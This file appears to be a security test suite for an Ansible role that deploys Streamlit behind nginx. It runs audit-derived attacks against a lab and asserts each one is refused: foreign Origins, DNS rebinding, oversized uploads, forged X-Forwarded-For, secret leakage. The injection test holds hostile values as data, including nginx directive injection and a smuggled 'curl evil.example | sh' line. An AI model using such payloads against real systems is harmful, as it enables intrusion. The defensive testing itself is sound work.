@@ -1,0 +1,541 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""The attacks scenario: every way around "only the public origins get in" that an audit found
+against real nginx and Streamlit, run against the lab, each as a test. At the end a table
+(attack, expected, observed) is printed and written to the scenario's ephemeral directory."""
+import asyncio
+import json
+import os
+import re
+import signal
+import socket
+import ssl
+import subprocess
+import sys
+import threading
+import time
+import tomllib
+
+import pytest
+from websockets.asyncio.client import connect
+
+from ansible_collections.wsproxy.streamlit.plugins.module_utils.ws_check import run_check
+from conftest import PROJECT, recap
+
+sys.path.insert(0, str(PROJECT / "tests" / "integration"))
+from peers import Peer  # noqa: E402  pylint: disable=wrong-import-position
+
+testinfra_hosts = ["ansible://master"]
+
+EPHEMERAL = os.environ.get("MOLECULE_EPHEMERAL_DIRECTORY", "/tmp")
+NAME = "analytics.wsproxy.test"
+PORT = 28443
+ORIGIN = "https://%s:%d" % (NAME, PORT)
+PREFIX = "streamlitApp"
+APP_URL = "%s/%s/" % (ORIGIN, PREFIX)
+CA = os.path.join(EPHEMERAL, "tls", "ca.pem")
+NODES = {"master": "wsproxy-lab-master", "child-1": "wsproxy-lab-child-1", "child-2": "wsproxy-lab-child-2"}
+CONTAINER = "streamlit-streamlit"
+DATA_DIR = "/opt/wsproxy-streamlit/streamlit"
+NGINX_FILES = "find /etc/nginx /var/lib/wsproxy-streamlit -type f | sort | xargs sha256sum"
+COOKIE_SECRET = "attack-\U0001F511-s\u00e9cret-\u2603"
+SESSIONS = int(os.environ.get("WSPROXY_ATTACK_SESSIONS", "3000"))
+ROWS = []
+
+
+def docker(*args):
+    return subprocess.run(["docker", *args], capture_output=True, text=True, check=True).stdout.strip()
+
+
+def lab_ip(node):
+    return docker("inspect", "--format", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", NODES[node])
+
+
+def on(node, command):
+    """Run a shell command on a lab node; (rc, output)."""
+    done = subprocess.run(["docker", "exec", NODES[node], "sh", "-c", command], capture_output=True, text=True, check=False)
+    return done.returncode, (done.stdout + done.stderr).strip()
+
+
+def record(attack, expected, observed, holds):
+    ROWS.append((attack, expected, observed, "yes" if holds else "NO"))
+    assert holds, "%s: expected %s, observed %s" % (attack, expected, observed)
+
+
+@pytest.fixture(scope="module", autouse=True)
+def attack_table():
+    yield
+    lines = ["| # | Attack | Expected | Observed | Holds |", "| --- | --- | --- | --- | --- |"]
+    lines += ["| %d | %s | %s | %s | %s |" % ((i,) + row) for i, row in enumerate(ROWS, 1)]
+    table = "\n".join(lines)
+    with open(os.path.join(EPHEMERAL, "attacks.md"), "w", encoding="utf-8") as handle:
+        handle.write(table + "\n")
+    sys.__stdout__.write("\n\nAttack table (%d rows):\n%s\n" % (len(ROWS), table))
+    sys.__stdout__.flush()
+
+
+@pytest.fixture(scope="module")
+def hosts_file():
+    lines = ["127.0.0.1 localhost"]
+    for node, container in NODES.items():
+        lines.append("%s %s.wsproxy.test%s" % (lab_ip(node), node, " " + NAME if node == "master" else ""))
+    path = os.path.join(EPHEMERAL, "hosts")
+    with open(path, "w", encoding="utf-8") as handle:
+        handle.write("\n".join(lines) + "\n")
+    return path
+
+
+@pytest.fixture(scope="module")
+def hostile_source(tmp_path_factory):
+    """The sample app, as a developer's checkout holds it: history, an .env and local secrets, all 0600."""
+    src = tmp_path_factory.mktemp("hostile-app")
+    for name in ("app.py", "requirements.txt"):
+        (src / name).write_bytes((PROJECT / "examples" / "app" / name).read_bytes())
+    for relative, text in {".git/config": "[remote] token=git-secret\n", ".env": "API_KEY=env-secret\n",
+                           ".streamlit/secrets.toml": 'api_key = "local-secret"\n', "notes.txt": "ignored by .dockerignore\n",
+                           "pages/__pycache__/x.pyc": "bytecode"}.items():
+        path = src / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+        path.chmod(0o600)
+    (src / ".dockerignore").write_text("# the app's own rules\nnotes.txt\n", encoding="utf-8")
+    return src
+
+
+@pytest.fixture(scope="module")
+def app_vars(hostile_source):
+    tls = os.path.join(EPHEMERAL, "tls")
+    return {
+        "streamlit_app_src": str(hostile_source),
+        "streamlit_public_origins": [ORIGIN],
+        "streamlit_cookie_secret": COOKIE_SECRET,
+        # A real Streamlit 1.67 section two levels deep, and secrets with tables, quotes and a non-BMP character.
+        "streamlit_config": {"theme": {"sidebar": {"backgroundColor": "#111111"}}},
+        "streamlit_secrets": {"token": "\U0001F512-token", "db": {"pass word": 'p"w\\x', "replica": {"host": "db2"}}},
+        "streamlit_max_upload_size": 1,
+        "streamlit_base_image": docker("inspect", "--format", '{{index .Config.Labels "wsproxy.lab.python_image"}}', NODES["child-1"]),
+        "nginx_location_mode": "server",
+        "nginx_location_include_in": "",
+        "nginx_location_listen_http": False,
+        "nginx_location_listen_https": True,
+        "nginx_location_https_port": PORT,
+        "nginx_location_tls_cert_content": open(os.path.join(tls, "server.pem"), encoding="utf-8").read(),
+        "nginx_location_tls_key_content": open(os.path.join(tls, "server.key"), encoding="utf-8").read(),
+        "nginx_location_max_sessions": 4000,
+        "wsproxy_master_port": PORT,
+        "wsproxy_check_ca_path": CA,
+    }
+
+
+@pytest.fixture(scope="module")
+def site(run_playbook, hosts_file, app_vars):
+    def run(*overrides, limit=None):
+        return run_playbook("site.yml", app_vars, *overrides, hosts_file=hosts_file, limit=limit)
+    return run
+
+
+@pytest.fixture(scope="module")
+def deployed(site):
+    first = site()
+    assert first[0] == 0, first[1][-5000:]
+    second = site()
+    return first, second
+
+
+def tls_context():
+    context = ssl.create_default_context(cafile=CA)
+    return context
+
+
+def request(method, path, headers=None, body=b"", host=None, timeout=10):
+    """One HTTPS request to the master with the public SNI; (status, headers, body, seconds)."""
+    started = time.monotonic()
+    raw = socket.create_connection((lab_ip("master"), PORT), timeout=timeout)
+    sock = tls_context().wrap_socket(raw, server_hostname=NAME)
+    lines = ["%s %s HTTP/1.1" % (method, path), "Host: %s" % (host or "%s:%d" % (NAME, PORT)), "Connection: close"]
+    lines += ["%s: %s" % item for item in (headers or {}).items()]
+    if body:
+        lines.append("Content-Length: %d" % len(body))
+    try:
+        sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
+    except OSError:
+        pass  # nginx may answer 413 and close before the whole body is sent
+    data = b""
+    try:
+        while True:
+            chunk = sock.recv(65536)
+            if not chunk:
+                break
+            data += chunk
+    except (ConnectionResetError, socket.timeout):
+        pass
+    sock.close()
+    head, _, payload = data.partition(b"\r\n\r\n")
+    status_line, *header_lines = head.decode("latin-1").split("\r\n")
+    parsed = dict((k.strip().lower(), v.strip()) for k, v in (line.split(":", 1) for line in header_lines if ":" in line))
+    return int(status_line.split()[1]), parsed, payload, time.monotonic() - started
+
+
+def handshake(origin, host=NAME, port=PORT, connect_to=None, scheme="https", **extra):
+    connect_to = connect_to or "%s:%d" % (lab_ip("master"), PORT)
+    params = {"url": "%s://%s:%d/%s/" % (scheme, host, port, PREFIX), "origin": origin, "connect_to": connect_to,
+              "timeout": 15, "ca_path": CA}
+    params.update(extra)
+    return run_check(params)
+
+
+# --- 1: settings TOML could not hold -------------------------------------------------------------
+
+def test_1_toml_that_broke_config_toml_is_written_so_streamlit_reads_it(host, deployed):
+    code, output = deployed[0]
+    assert "WebSocket upgrade through" in output and " works" in output, output[-3000:]
+    for child in ("child-1", "child-2"):
+        config = tomllib.loads(on(child, "cat %s/config.toml" % DATA_DIR)[1])
+        secrets = tomllib.loads(on(child, "cat %s/secrets.toml" % DATA_DIR)[1])
+        assert config["server"]["cookieSecret"] == COOKIE_SECRET
+        assert config["theme"]["sidebar"]["backgroundColor"] == "#111111"
+        assert secrets["db"]["replica"]["host"] == "db2" and secrets["token"] == "\U0001F512-token"
+    # Streamlit took them: Host and Origin of a rebinding attacker, straight to a child, are refused.
+    child = lab_ip("child-1")
+    evil = handshake("http://evil.example", host="evil.example", port=8501, scheme="http", connect_to=child + ":8501")
+    good = handshake(ORIGIN, port=PORT, scheme="http", connect_to=child + ":8501")
+    record("config.toml with a theme.sidebar table, an emoji cookie secret, nested secrets",
+           "valid TOML; child refuses Host+Origin evil (403), upgrades the public origin (101)",
+           "tomllib parses both files; evil %s, public %s" % (evil["status"], good["status"]),
+           evil["status"] == 403 and good["status"] == 101 and good["diagnosis"]["code"] == "ok")
+
+
+def test_1_a_null_value_fails_before_any_change(site, deployed):
+    before = [on(c, "sha256sum %s/config.toml; %s inspect -f '{{.State.StartedAt}}' %s" % (DATA_DIR, "docker", CONTAINER))[1]
+              for c in ("child-1", "child-2")]
+    code, output = site({"streamlit_config": {"theme": {"sidebar": {"backgroundColor": None}}}})
+    after = [on(c, "sha256sum %s/config.toml; docker inspect -f '{{.State.StartedAt}}' %s" % (DATA_DIR, CONTAINER))[1]
+             for c in ("child-1", "child-2")]
+    message = "streamlit_config: theme.sidebar.backgroundColor: is null"
+    record("streamlit_config with a null value", "fails naming the variable, nothing written or restarted",
+           "rc %d, %r, files and containers %s" % (code, message if message in output else "no message",
+                                                   "unchanged" if after == before else "CHANGED"),
+           code != 0 and message in output and after == before)
+
+
+# --- 2 and 2b: foreign origins, and the slow cross-origin path -----------------------------------
+
+def test_2_foreign_origins_get_403_from_nginx_and_health_stays_fast(deployed):
+    stop = time.monotonic() + 8
+    statuses = []
+
+    def hammer():
+        while time.monotonic() < stop:
+            statuses.append(handshake("https://evil.example")["status"])
+
+    threads = [threading.Thread(target=hammer) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    latencies = []
+    while time.monotonic() < stop:
+        latencies.append(request("GET", "/%s/_stcore/health" % PREFIX)[3])
+        time.sleep(0.2)
+    for thread in threads:
+        thread.join()
+    status, _headers, body, _ = request("GET", "/%s/_stcore/stream" % PREFIX,
+                                        {"Origin": "https://evil.example", "Upgrade": "websocket", "Connection": "Upgrade"})
+    by_nginx = b"<center>nginx</center>" in body and b"nginx/" not in body
+    worst = max(latencies) * 1000
+    record("4 concurrent foreign-Origin handshakes for 8 s", "403 from nginx (no version); health fast for everyone",
+           "%d handshakes, all %s, answered by nginx: %s; health max %.0f ms over %d probes"
+           % (len(statuses), sorted(set(statuses)), by_nginx, worst, len(latencies)),
+           set(statuses) == {403} and status == 403 and by_nginx and worst < 500)
+
+
+async def _open_sessions(count, rate):
+    """Open ``count`` browser-like sessions through the master at ``rate``/s and hold them all."""
+    context = tls_context()
+    master = lab_ip("master")
+    sessions, failures = [], []
+
+    async def one():
+        try:
+            sessions.append(await connect(
+                "wss://%s:%d/%s/_stcore/stream" % (NAME, PORT, PREFIX), origin=ORIGIN, ssl=context,
+                subprotocols=["streamlit", "PLACEHOLDER_AUTH_TOKEN"], open_timeout=30, ping_interval=None,
+                host=master, port=PORT, server_hostname=NAME, max_queue=1))
+        except Exception as exc:  # pylint: disable=broad-except  # every failure is counted
+            failures.append(repr(exc)[:120])
+
+    started = time.monotonic()
+    tasks = []
+    for index in range(count):
+        tasks.append(asyncio.create_task(one()))
+        await asyncio.sleep(max(0.0, started + (index + 1) / rate - time.monotonic()))
+    await asyncio.gather(*tasks)
+    opened = time.monotonic() - started
+
+    async def alive(session):
+        try:
+            await asyncio.wait_for(await session.ping(), 20)
+            return True
+        except Exception:  # pylint: disable=broad-except
+            return False
+
+    await asyncio.sleep(5)
+    answering = sum(await asyncio.gather(*(alive(s) for s in sessions)))
+    await asyncio.gather(*(s.close() for s in sessions), return_exceptions=True)
+    return len(sessions), failures, answering, opened
+
+
+def test_2b_thousands_of_sessions_on_a_non_default_port_all_held(deployed):
+    held, failures, answering, seconds = asyncio.run(_open_sessions(SESSIONS, 300))
+    health = request("GET", "/%s/_stcore/health" % PREFIX)
+    record("%d browser sessions, one client address (ip_hash: one child), origin host:%d, no internet route"
+           % (SESSIONS, PORT), "all held, 0 failed, health fast",
+           "%d opened in %.1f s, %d failed%s, %d answered a ping after 5 s; health %d in %.0f ms"
+           % (held, seconds, len(failures), (" (%s)" % failures[0]) if failures else "", answering, health[0], health[3] * 1000),
+           held == SESSIONS and not failures and answering == SESSIONS and health[0] == 200 and health[3] < 1)
+
+
+# --- 3: empty origins, DNS rebinding --------------------------------------------------------------
+
+def test_3_empty_public_origins_fail_before_any_change(host, site, deployed):
+    before = host.check_output(NGINX_FILES)
+    code, output = site({"streamlit_public_origins": []})
+    message = "streamlit_public_origins: empty"
+    record("streamlit_public_origins: []", "fails naming the variable, nothing changed",
+           "rc %d, message %s, nginx files %s" % (code, message in output, "unchanged" if host.check_output(NGINX_FILES) == before else "CHANGED"),
+           code != 0 and message in output and host.check_output(NGINX_FILES) == before
+           and all(c["changed"] == 0 for c in recap(output).values()))
+
+
+def test_3_dns_rebinding_gets_no_app(deployed):
+    both = handshake("https://evil.example", host="evil.example", validate_certs=False)
+    page = request("GET", "/%s/" % PREFIX, host="evil.example")
+    stream = request("GET", "/%s/_stcore/stream" % PREFIX, {"Upgrade": "websocket", "Connection": "Upgrade",
+                                                            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
+                                                            "Sec-WebSocket-Version": "13"}, host="evil.example")
+    record("DNS rebinding: Host and Origin evil.example; then Host only (no Origin), page and stream",
+           "refused by nginx (421), no app", "Host+Origin %s; Host only: page %d, stream %d" % (both["status"], page[0], stream[0]),
+           both["status"] in (403, 421) and page[0] == 421 and stream[0] == 421)
+
+
+# --- 4: values that would add nginx directives ----------------------------------------------------
+
+@pytest.mark.parametrize("variable, value", [
+    ("nginx_location_server_name", 'x; location /pwn {return 200 "pwned";} server_name y'),
+    ("nginx_location_proxy_timeout", "1d; add_header X-Injected 1"),
+    ("nginx_location_proxy_timeout", "1d\n"),
+    ("nginx_location_extra_directives", ["add_header X-A 1; } location /pwn { return 200 pwned;"]),
+    ("streamlit_version", "1.67.0\nRUN curl evil.example | sh"),
+])
+def test_4_injected_directives_fail_before_any_change(host, site, deployed, variable, value):
+    before = host.check_output(NGINX_FILES)
+    code, output = site({variable: value})
+    after = host.check_output(NGINX_FILES)
+    pwned = request("GET", "/pwn")[0]
+    record("%s = %r" % (variable, value), "fails naming the variable, nothing changed, /pwn not served",
+           "rc %d, named %s, nginx files %s, /pwn %d" % (code, (variable + ":") in output, "unchanged" if after == before else "CHANGED", pwned),
+           code != 0 and (variable + ":") in output and after == before and pwned != 200
+           and all(c["changed"] == 0 for c in recap(output).values()))
+
+
+# --- 5: a change whose run died before nginx or the container applied it ------------------------------
+
+def _run_until(site_vars, overrides, banner, hosts_file):
+    """Run site.yml and kill it (and every process of it) as soon as ``banner`` is printed."""
+    args = ["unshare", "--mount", "sh", "-c", 'mount --bind "$0" /etc/hosts && exec "$@"', hosts_file,
+            "ansible-playbook", "-i", str(PROJECT / "inventory" / "lab"), str(PROJECT / "site.yml"),
+            "-e", json.dumps(site_vars), "-e", json.dumps(overrides)]
+    process = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, cwd=PROJECT,
+                               start_new_session=True, env=dict(os.environ, ANSIBLE_NOCOLOR="1"))
+    seen = []
+    for line in process.stdout:
+        seen.append(line)
+        if banner in line:
+            os.killpg(process.pid, signal.SIGKILL)
+            break
+    process.wait()
+    return "".join(seen)
+
+
+def test_5_an_nginx_change_cut_off_before_its_reload_is_reloaded_by_the_next_run(site, hosts_file, app_vars, deployed):
+    change = {"nginx_location_extra_directives": ["add_header X-Wsproxy-Generation 2 always;"]}
+    try:
+        output = _run_until(app_vars, change, "TASK [wsproxy.streamlit.nginx_location : Test the new configuration]", hosts_file)
+        assert "Test the new configuration" in output, output[-3000:]
+        on_disk = "X-Wsproxy-Generation" in on("master", "cat /etc/nginx/snippets/wsproxy-streamlit.conf")[1]
+        served_before = request("GET", "/%s/_stcore/health" % PREFIX)[1].get("x-wsproxy-generation")
+        code, rerun = site(change)
+        served_after = request("GET", "/%s/_stcore/health" % PREFIX)[1].get("x-wsproxy-generation")
+        code_again, again = site(change)
+        record("nginx change written, run killed before the reload, then a clean rerun",
+               "rerun notices and reloads; the one after gives changed=0",
+               "on disk %s, served before rerun %r, after %r; rerun master changed=%d; next changed=%d"
+               % (on_disk, served_before, served_after, recap(rerun)["wsproxy-lab-master"]["changed"],
+                  recap(again)["wsproxy-lab-master"]["changed"]),
+               on_disk and served_before is None and served_after == "2" and code == 0 and code_again == 0
+               and recap(again)["wsproxy-lab-master"]["changed"] == 0)
+    finally:
+        assert site()[0] == 0
+
+
+def test_5_a_settings_change_cut_off_before_the_container_took_it_is_applied_next_run(site, hosts_file, app_vars, deployed):
+    change = {"streamlit_config": {"theme": {"sidebar": {"backgroundColor": "#222222"}, "base": "dark"}}}
+    try:
+        output = _run_until(app_vars, change, "TASK [wsproxy.streamlit.container : Write secrets.toml]", hosts_file)
+        assert "Write secrets.toml" in output, output[-3000:]
+        written = '"#222222"' in on("child-1", "cat %s/config.toml" % DATA_DIR)[1]
+        started = on("child-1", "docker inspect -f '{{.State.StartedAt}}' %s" % CONTAINER)[1]
+        code, rerun = site(change)
+        restarted = on("child-1", "docker inspect -f '{{.State.StartedAt}}' %s" % CONTAINER)[1]
+        record("config.toml written, run killed before the container was recreated, then a clean rerun",
+               "rerun recreates the container (settings checksum label differs)",
+               "written %s; container %s by the rerun (rc %d, child-1 changed=%d)"
+               % (written, "recreated" if restarted != started else "NOT recreated", code,
+                  recap(rerun)["wsproxy-lab-child-1"]["changed"]),
+               written and restarted != started and code == 0)
+    finally:
+        assert site()[0] == 0
+
+
+# --- 6 and 7: reloads nginx cannot apply, warnings -------------------------------------------------
+
+def test_6_a_port_another_process_holds_fails_and_rolls_back(host, site, deployed):
+    on("master", "nohup python3 -m http.server 28444 --bind 0.0.0.0 >/dev/null 2>&1 & echo $! > /tmp/holder.pid; sleep 1")
+    before = host.check_output(NGINX_FILES)
+    try:
+        code, output = site({"nginx_location_https_port": 28444}, limit="master")
+    finally:
+        on("master", "kill $(cat /tmp/holder.pid)")
+    after = host.check_output(NGINX_FILES)
+    still = handshake(ORIGIN)
+    said = "did not start new workers" in output and "bind()" in output
+    record("server mode on a port another process holds", "fails (nginx kept its old workers), files restored, app still served",
+           "rc %d, cause named with error.log's bind() line: %s, files %s, app %s"
+           % (code, said, "restored" if after == before else "DIFFER", still["diagnosis"]["code"]),
+           code != 0 and said and after == before and still["diagnosis"]["code"] == "ok")
+
+
+@pytest.mark.parametrize("overrides, message", [
+    ({"streamlit_app_name": "rival", "streamlit_base_url_path": "rival", "streamlit_port": 8502},
+     'conflicting server name "%s"' % NAME),
+    ({"streamlit_app_name": "rival", "streamlit_port": 8502}, "streamlit_base_url_path: /streamlitApp/ is already served"),
+])
+def test_7_a_second_app_that_collides_fails_and_rolls_back(host, site, deployed, overrides, message):
+    before = host.check_output(NGINX_FILES)
+    code, output = site(overrides, limit="master")
+    after = host.check_output(NGINX_FILES)
+    record("second app %s in server mode on the same host and port" % json.dumps(overrides),
+           "fails with nginx's warning or the collision, files restored", "rc %d, %r named: %s, files %s"
+           % (code, message, message in output, "restored" if after == before else "DIFFER"),
+           code != 0 and message in output and after == before and handshake(ORIGIN)["diagnosis"]["code"] == "ok")
+
+
+# --- 8 and 9: what the node and the image hold; who reaches the child ------------------------------
+
+def test_8_history_env_and_local_secrets_never_reach_the_node_or_the_image(deployed):
+    findings = []
+    for child in ("child-1", "child-2"):
+        mode = on(child, "stat -c %%a %s/build" % DATA_DIR)[1]
+        node_files = on(child, "cd %s/build/app && find . -type f | sort" % DATA_DIR)[1].split()
+        image = on(child, "docker inspect -f '{{.Config.Image}}' %s" % CONTAINER)[1]
+        run = "docker run --rm --read-only --user 10001:10001 --entrypoint sh %s -c " % image
+        image_files = on(child, run + "'find /app -type f'")[1].split()
+        mounted_secrets = on(child, "cat %s/secrets.toml" % DATA_DIR)[1]
+        writable = on(child, run + "'echo x >> /app/app.py'")[0] == 0
+        owner = on(child, run + "'stat -c %u /app/app.py'")[1]
+        findings.append((mode, node_files, image_files, "local-secret" in mounted_secrets, writable, owner))
+    leaked = [f for _m, node, image, *_ in findings for f in node + image
+              if re.search(r"\.git/|\.env|notes\.txt|__pycache__|\.pyc", f)]
+    record("app source with .git/, .env, .streamlit/secrets.toml (0600), __pycache__ and a .dockerignore",
+           "none on the node or in the image; build dir 0700; code root-owned, read-only",
+           "build dir %s; leaked %s; local secrets in the container %s; app.py owner uid %s, writable %s"
+           % (sorted(set(f[0] for f in findings)), leaked or "nothing", any(f[3] for f in findings),
+              sorted(set(f[5] for f in findings)), any(f[4] for f in findings)),
+           all(f[0] == "700" for f in findings) and not leaked and not any(f[3] for f in findings)
+           and all(f[5] == "0" for f in findings) and not any(f[4] for f in findings))
+
+
+def test_9_the_childs_port_is_only_on_the_address_the_master_dials(deployed):
+    observed = []
+    holds = True
+    for child in ("child-1", "child-2"):
+        address = lab_ip(child)
+        binding = on(child, "docker port %s 8501/tcp" % CONTAINER)[1]
+        loopback = on(child, "python3 -c \"import socket; socket.create_connection(('127.0.0.1', 8501), 3)\"")[0]
+        bridge = on(child, "python3 -c \"import socket; socket.create_connection(('172.17.0.1', 8501), 3)\"")[0]
+        observed.append("%s: %s, loopback %s, docker0 %s" % (child, binding, "refused" if loopback else "OPEN",
+                                                              "refused" if bridge else "OPEN"))
+        holds = holds and binding == "%s:8501" % address and loopback != 0 and bridge != 0
+    record("direct connection to a child's 8501 other than on its lab address", "published on the dialled address only",
+           "; ".join(observed), holds)
+
+
+# --- 10: the module against secrets and hostile peers ------------------------------------------------
+
+def test_10_header_values_stay_out_of_the_output_at_vvv(deployed):
+    args = {"url": APP_URL, "connect_to": "%s:%d" % (lab_ip("master"), PORT), "ca_path": CA, "origin": ORIGIN,
+            "headers": {"Authorization": "Bearer attack-token-0042"}}
+    done = subprocess.run(["ansible", "localhost", "-vvv", "-m", "wsproxy.streamlit.websocket_handshake", "-a", json.dumps(args)],
+                          capture_output=True, text=True, cwd=PROJECT, check=False)
+    output = done.stdout + done.stderr
+    record("module with headers: {Authorization: ...} at -vvv", "token never printed",
+           "rc %d, token printed: %s" % (done.returncode, "attack-token-0042" in output),
+           done.returncode == 0 and "attack-token-0042" not in output and "VALUE_SPECIFIED_IN_NO_LOG_PARAMETER" in output)
+
+
+@pytest.mark.parametrize("mode, code", [("bad_status", "bad_response"), ("close", "server_closed")])
+def test_10_hostile_peers_are_diagnosed_not_blamed_on_the_user(mode, code):
+    peer = Peer(mode)
+    try:
+        result = run_check({"url": peer.url, "timeout": 2})
+    finally:
+        peer.close()
+    record("peer answers %s" % {"bad_status": "a status line with non-ASCII digits", "close": "with a close frame 1008"}[mode],
+           "diagnosis %s" % code, "%s: %s" % (result["diagnosis"]["code"], result["diagnosis"]["summary"][:90]),
+           result["diagnosis"]["code"] == code)
+
+
+# --- More: uploads over the limit, forged X-Forwarded-For ---------------------------------------------
+
+def test_an_upload_over_client_max_body_size_stops_at_nginx(deployed):
+    status, _headers, body, _ = request("PUT", "/%s/_stcore/upload_file/session/file" % PREFIX,
+                                        {"Origin": ORIGIN, "Content-Type": "application/octet-stream"}, body=b"x" * (2 << 20))
+    record("2 MB upload, streamlit_max_upload_size 1 (MB)", "413 from nginx", "%d%s" % (status, " (nginx)" if b"nginx" in body else ""),
+           status == 413 and b"nginx" in body)
+
+
+ECHO = r'''
+import http.server, json, sys
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        body = json.dumps(dict(self.headers)).encode()
+        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
+http.server.HTTPServer((sys.argv[1], 8501), H).handle_request()
+'''
+
+
+def test_a_forged_x_forwarded_for_is_replaced_by_the_client_address(deployed):
+    children = ("child-1", "child-2")
+    try:
+        for child in children:
+            on(child, "docker stop -t 2 %s >/dev/null" % CONTAINER)
+            on(child, "cat > /tmp/echo.py <<'EOF'\n%s\nEOF\nnohup timeout 60 python3 /tmp/echo.py %s >/dev/null 2>&1 & echo $! > /tmp/echo.pid; sleep 1"
+               % (ECHO, lab_ip(child)))
+        status, _headers, body, _ = request("GET", "/%s/" % PREFIX, {"X-Forwarded-For": "6.6.6.6", "X-Real-IP": "6.6.6.6"})
+        seen = json.loads(body) if status == 200 else {}
+    finally:
+        for child in children:
+            on(child, "kill $(cat /tmp/echo.pid) 2>/dev/null; sleep 0.5; docker start %s >/dev/null" % CONTAINER)
+        for child in children:
+            on(child, "curl -fsS --retry 30 --retry-delay 1 --retry-all-errors http://%s:8501/%s/_stcore/health"
+               % (lab_ip(child), PREFIX))
+    forwarded = seen.get("X-Forwarded-For", "")
+    record("client sends X-Forwarded-For: 6.6.6.6", "the child sees the client's real address only; Host keeps the port",
+           "child saw X-Forwarded-For %r, X-Real-IP %r, Host %r" % (forwarded, seen.get("X-Real-IP"), seen.get("Host")),
+           status == 200 and forwarded and "6.6.6.6" not in forwarded and seen.get("X-Real-IP") == forwarded
+           and seen.get("Host") == "%s:%d" % (NAME, PORT))
+
+
+def test_the_app_still_works_after_every_attack(site):
+    code, output = site()
+    counts = recap(output)
+    record("a clean rerun after all of the above", "app answers, changed=0 everywhere",
+           "rc %d, changed %s" % (code, {h: c["changed"] for h, c in counts.items()}),
+           code == 0 and all(c["changed"] == 0 for c in counts.values()) and handshake(ORIGIN)["diagnosis"]["code"] == "ok")
